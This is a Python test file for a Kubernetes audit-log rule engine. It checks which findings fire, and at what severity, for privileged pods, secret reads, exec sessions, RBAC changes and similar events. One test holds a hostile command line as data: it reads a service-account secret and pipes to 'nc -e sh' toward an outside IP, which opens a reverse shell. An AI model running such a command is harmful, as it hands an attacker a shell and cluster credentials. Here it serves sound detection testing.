"""What fires, for whom, how much it matters, and what stays silent."""

from __future__ import annotations

from dataclasses import replace

import orjson
import pytest

from audit.event import AuditEvent
from audit.evidence import Severity
from audit.rules import RULES, judge, judge_request
from audit.rules.rule import WRITES
from tests.audit.rules.requests import (
    EXAMPLES,
    WORKLOAD,
    as_user,
    binding,
    container,
    event,
    fired,
    parsed,
    pod,
    role,
    run,
)
from tests.shared_data import shared_data


def test_every_rule_on_single_events_has_an_example() -> None:
    assert set(EXAMPLES) == {rule.id for rule in RULES.values() if not rule.is_sequence}


@pytest.mark.parametrize("rule", sorted(EXAMPLES))
def test_a_rule_fires_on_what_it_is_about(rule: str) -> None:
    finding = fired(EXAMPLES[rule])[rule]

    assert finding.title == RULES[rule].title
    assert finding.severity >= Severity.LOW
    assert finding.refused is RULES[rule].is_about_refusal


@pytest.mark.parametrize(
    "rule",
    sorted(
        rule
        for rule in EXAMPLES
        if rule not in ("secret-read", "anonymous-allowed") and "refused" not in rule
    ),
)
def test_a_rule_fires_on_a_refused_attempt_and_says_so(rule: str) -> None:
    refused = fired(replace(EXAMPLES[rule], code=403, decision="forbid"))[rule]

    assert refused.refused
    assert Severity.LOW <= refused.severity <= RULES[rule].severity


@pytest.mark.parametrize("rule", sorted(EXAMPLES))
@pytest.mark.parametrize("code", [500, 503, 504])
def test_what_the_api_server_failed_at_is_not_told_as_done(rule: str, code: int) -> None:
    found = fired(replace(EXAMPLES[rule], code=code, decision=""))

    for finding in found.values():
        is_behind = EXAMPLES[rule].subresource == "proxy"
        assert finding.refused is False
        assert finding.title.startswith("Tried, failed: ") is not is_behind
        assert is_behind or finding.severity <= max(Severity.LOW, RULES[finding.rule].severity - 1)


def test_a_secret_that_the_api_server_failed_to_give_was_not_read() -> None:
    assert fired(replace(EXAMPLES["secret-read"], code=500)) == {}


@pytest.mark.parametrize("rule", sorted(EXAMPLES))
def test_a_dry_run_is_low_at_most_and_called_so(rule: str) -> None:
    one = EXAMPLES[rule]
    uri = f"{one.uri}{'&' if '?' in one.uri else '?'}dryRun=All"
    found = fired(replace(one, uri=uri, raw={**one.raw, "requestURI": uri}))
    is_dry = one.verb in WRITES and one.subresource not in ("exec", "attach", "proxy", "token")
    is_dry = is_dry and not one.resource.endswith("reviews")

    for finding in found.values():
        assert finding.refused or finding.title.startswith("Dry run: ") is is_dry
        assert not is_dry or finding.refused or finding.severity <= Severity.LOW


def test_what_aks_really_does_is_routine() -> None:
    rows = [orjson.loads(line) for line in shared_data("audit/events.jsonl").read_bytes().splitlines()]
    noise = [
        row for row in rows if row["label"] in ("aks-azurediagnostics-real", "openshift-lease-update-real")
    ]

    assert len(noise) == 5
    assert all(judge([parsed(row["event"])]).of_event == ((),) for row in noise)


def test_the_first_of_three_events_of_a_request_says_nothing_yet() -> None:
    assert fired(replace(EXAMPLES["shell-in-pod"], stage="RequestReceived")) == {}
    assert "shell-in-pod" in fired(replace(EXAMPLES["shell-in-pod"], stage="ResponseStarted"))
    assert fired(replace(EXAMPLES["secret-read"], stage="ResponseStarted")) == {}


def test_a_custom_resource_with_a_well_known_name_is_none_of_them() -> None:
    one = replace(EXAMPLES["node-port-opened"], api_group="serving.knative.dev")

    assert "node-port-opened" not in fired(one)


@pytest.mark.parametrize(
    ("resource", "path"),
    [
        ("deployments", ("template", "spec")),
        ("replicationcontrollers", ("template", "spec")),
        ("jobs", ("template", "spec")),
        ("cronjobs", ("jobTemplate", "spec", "template", "spec")),
    ],
)
@pytest.mark.parametrize("kind", ["containers", "initContainers", "ephemeralContainers"])
def test_a_privileged_container_is_found_in_every_template(
    resource: str, path: tuple[str, ...], kind: str
) -> None:
    body: dict[str, object] = {kind: [{"name": "a"}, {"name": "b", "securityContext": {"privileged": True}}]}
    for key in reversed(("spec", *path)):
        body = {key: body}

    assert "privileged-container" in fired(event("create", f"shop:{resource}:x", body))


def test_a_json_patch_is_read_as_what_it_sets() -> None:
    path = "/spec/template/spec/containers/0/securityContext"
    patches = (
        [{"op": "add", "path": f"{path}/privileged", "value": True}],
        [{"op": "replace", "path": path, "value": {"privileged": True}}],
        [
            {"op": "add", "path": "/spec", "value": {"template": {"spec": {"containers": [{}]}}}},
            {"op": "add", "path": f"{path}", "value": {}},
            {"op": "add", "path": f"{path}/privileged", "value": True},
        ],
    )

    for patch in patches:
        assert "privileged-container" in fired(event("patch", "shop:deployments:web", patch))
    assert (
        fired(event("patch", "shop:deployments:web", [{"op": "remove", "path": f"{path}/privileged"}])) == {}
    )


def test_pods_that_a_controller_makes_as_ordered_are_routine_and_the_clusters_own_are_nothing() -> None:
    controller = as_user("system:serviceaccount:kube-system:replicaset-controller")
    body = {"spec": {"hostNetwork": True}}

    ordered = fired(event("create", "shop:pods", body, **controller))

    assert {rule: finding.severity for rule, finding in ordered.items()} == {"host-network": Severity.ROUTINE}
    assert fired(event("create", "kube-system:pods", body, **controller)) == {}


@pytest.mark.parametrize(
    "quiet",
    [
        container({"capabilities": {"add": ["NET_BIND_SERVICE", "CHOWN"]}}),
        container({"privileged": "true", "runAsUser": False}),
        pod({"hostNetwork": False, "hostPID": None}),
        pod({"volumes": [{"hostPath": {"path": "/data"}}, {"hostPath": {"path": "/etc/localtime"}}]}),
        event("get", "shop:cronjobs:x"),
        event("create", ":nodes/status:n"),
        event("update", "shop:deployments/status:web", {"spec": {}}),
        event("get", ":nodes/proxy:n", requestURI="/api/v1/nodes/n/proxy/metrics/cadvisor"),
        event("create", "shop:services:w", {"spec": {"type": "ClusterIP"}}),
        event("create", "shop:ingresses:w", {"spec": {"tls": [{"secretName": "t"}]}}),
        event("create", "kube-system:ingresses:w", {"spec": {"rules": []}}),
        event(
            "create",
            ":certificatesigningrequests:n",
            {"spec": {"signerName": "kubernetes.io/kubelet-serving"}},
        ),
        event("get", "", requestURI="/healthz", **as_user("system:anonymous")),
        event("get", "", requestURI="/livez/ping?verbose", **as_user("system:anonymous")),
        event("get", "kube-public:configmaps:cluster-info", **as_user("system:anonymous")),
    ],
)
def test_harmless_things_are_silent(quiet: AuditEvent) -> None:
    assert fired(quiet) == {}


def test_a_small_role_and_a_mild_binding_are_not_called_powerful() -> None:
    assert set(fired(role(resources=["pods", "pods/log"], verbs=["get", "list"]))) == {"role-changed"}
    assert set(fired(binding("view", {"kind": "User", "name": "x"}))) == {"rbac-binding-changed"}


@pytest.mark.parametrize(
    ("address", "user", "says"),
    [
        ("8.8.8.8", "system:serviceaccount:kube-system:metrics-server", True),
        ("2001:4860:4860::8888", WORKLOAD, True),
        ("::ffff:8.8.8.8", WORKLOAD, True),
        ("8.8.8.8:4711", WORKLOAD, True),
        ("[2001:4860:4860::8888]:443", WORKLOAD, True),
        ("20.127.0.45", "system:serviceaccount:kube-system:csi-azuredisk-node-sa", False),
        ("10.1.2.3", "system:node:aks-1", False),
        ("fd00::1", "system:node:aks-1", False),
        ("not-an-ip", "system:node:aks-1", False),
        ("8.8.8.8", "dana@contoso.example", False),
        ("8.8.8.8", "system:anonymous", False),
    ],
)
def test_a_system_identity_from_the_internet_is_found(address: str, user: str, says: bool) -> None:
    one = event("list", "nodes", sourceIPs=["10.0.0.1", address], **as_user(user))

    assert ("platform-from-public-address" in fired(one)) is says


def test_another_clouds_address_is_no_excuse_on_aks() -> None:
    one = event("list", "nodes", sourceIPs=["54.212.83.236"], **as_user(WORKLOAD))

    assert "platform-from-public-address" not in fired(one)
    assert "platform-from-public-address" in fired(replace(one, cluster_id="/subscriptions/x"))


def test_a_made_up_name_of_another_clouds_platform_hides_nobody_on_aks() -> None:
    one = replace(
        event("get", "shop:secrets:db", **as_user("eks:addon-manager")), cluster_id="/subscriptions/x"
    )

    assert "secret-read" in fired(one)


def test_who_acts_through_the_platform_is_judged_as_himself() -> None:
    one = event(
        "delete",
        ":namespaces:shop",
        **as_user("aksService"),
        impersonatedUser={"username": "dana@contoso.example"},
    )

    assert "namespace-deleted" in fired(one)


def test_findings_come_riskiest_first() -> None:
    found = judge([run("bash", "-c", "cat /var/run/secrets/x | nc -e sh 1.2.3.4 9")]).of_event[0]

    assert [finding.rule for finding in found] == [
        "reverse-shell",
        "token-read-in-exec",
        "exec-in-pod",
    ]


def test_a_missing_body_of_a_create_is_made_up_for_by_the_answer() -> None:
    one = event(
        "create", "shop:pods:x", "skipped-too-big-size-object", responseObject={"spec": {"hostPID": True}}
    )

    assert "host-pid" in fired(one)


def test_groups_are_judged_by_what_needs_no_body() -> None:
    found = judge_request(
        verb="get",
        resource="pods",
        subresource="exec",
        namespace="shop",
        name="web-1",
        user="dana@contoso.example",
        code=403,
        decision="forbid",
    )

    assert [(finding.rule, finding.refused) for finding in found] == [("exec-in-pod", True)]
    assert found[0].severity is Severity.LOW


def test_what_a_kubelet_answers_is_no_refusal_by_the_api_server() -> None:
    one = replace(EXAMPLES["node-proxy-used"], code=404, decision="allow")

    assert not fired(one)["node-proxy-used"].refused


@pytest.mark.parametrize("rule", ["ingress-without-tls", "load-balancer-opened", "system-workload-stopped"])
def test_what_azure_cut_off_is_not_taken_for_absent(rule: str) -> None:
    one = EXAMPLES[rule]
    # Of what stops a workload it is what is there that tells.
    raw = {**one.raw, "requestObject": {"spec": {}}} if rule == "system-workload-stopped" else one.raw

    assert rule not in fired(replace(one, raw=raw, is_cut=True))


def test_a_certificate_whose_signer_was_cut_off_is_not_said_to_log_in() -> None:
    one = event("create", ":certificatesigningrequests:me", {"spec": {"request": "LS0t"}})

    assert "client-certificate-requested" in fired(one)
    assert "client-certificate-requested" not in fired(replace(one, is_cut=True))


@pytest.mark.parametrize(
    ("one", "rules"),
    [
        (event("update", "kube-system:deployments:coredns"), {"system-workload-changed"}),
        (event("delete", "kube-system:daemonsets:x"), {"system-workload-stopped", "workload-deleted"}),
        (
            event("patch", "kube-system:deployments:coredns", {"spec": {"replicas": 0}}),
            {"system-workload-stopped"},
        ),
        (event("patch", "kube-system:deployments/scale:coredns"), {"system-workload-changed"}),
        (event("patch", "shop:deployments/scale:web", {"spec": {"replicas": 0}}), set()),
        (event("create", "shop:pods/proxy:web-1"), {"service-proxy-used"}),
        (event("delete", ":apiservices:v1.a.example"), {"api-service-changed"}),
        (event("update", ":apiservices/status:v1.a.example"), set()),
        (
            event(
                "patch",
                "shop:services:w",
                [{"op": "add", "path": "/spec/externalIPs/-", "value": "10.0.0.1"}],
            ),
            {"external-address-taken"},
        ),
        (
            event(
                "update",
                "shop:deployments:web",
                {"spec": {"template": {"spec": {"containers": [{"image": "w"}]}}}},
                **as_user(WORKLOAD),
            ),
            set(),
        ),
    ],
)
def test_what_touches_the_clusters_own_parts_is_found(one: AuditEvent, rules: set[str]) -> None:
    assert set(fired(one)) == rules


def test_what_stood_before_the_cut_is_judged() -> None:
    assert "privileged-container" in fired(replace(EXAMPLES["privileged-container"], is_cut=True))
